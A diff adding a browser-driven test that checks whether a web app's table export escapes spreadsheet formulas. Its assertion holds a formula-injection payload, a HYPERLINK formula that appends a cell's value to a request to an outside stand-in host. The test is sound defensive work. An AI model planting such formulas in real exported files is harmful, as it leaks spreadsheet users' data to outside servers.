@@ -99,3 +99,11 @@ def test_a_formula_is_no_formula(whole: Staged) -> None:
         {**whole.tables, "partnerships": whole.tables["partnerships"].assign(name=frame["name"].iloc[0])},
         {"files": {}}, {}, {},
     )  # fmt: skip
+
+
+def test_a_saved_table_runs_no_formula(tab: Browser, hostile: str) -> None:
+    tab.open(hostile)
+    tab.go("#/organisations")
+    tab.ask("window.kept = []; URL.createObjectURL = blob => (window.kept.push(blob), '#'); 0")
+    tab.ask("document.querySelector('.take button').click()")
+    assert '"\'=HYPERLINK(""http://example.org/?""&A1)"' in tab.ask("window.kept[0].text()")
